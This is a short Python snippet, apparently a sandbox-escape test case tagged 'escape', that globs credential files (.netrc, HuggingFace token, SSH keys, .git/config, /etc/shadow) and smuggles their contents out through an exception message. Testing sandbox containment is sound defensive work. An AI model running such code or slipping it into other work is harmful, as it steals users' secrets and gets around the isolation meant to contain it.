"""read credentials files: ~/.netrc, HF token, ssh keys, the repo's .git/config, shadow."""
# tags: escape
import glob, os
leaked = []
for pattern in ("/root/.netrc", "/root/.cache/huggingface/token", "/root/.ssh/*", "/etc/shadow",
                "/home/*/.netrc", "/work/*/.git/config", SENTINEL):
    for path in glob.glob(pattern):
        try:
            leaked.append(open(path).read()[:100])
            escaped("read " + path)
        except Exception:
            pass
raise ValueError("leak: " + repr(leaked))
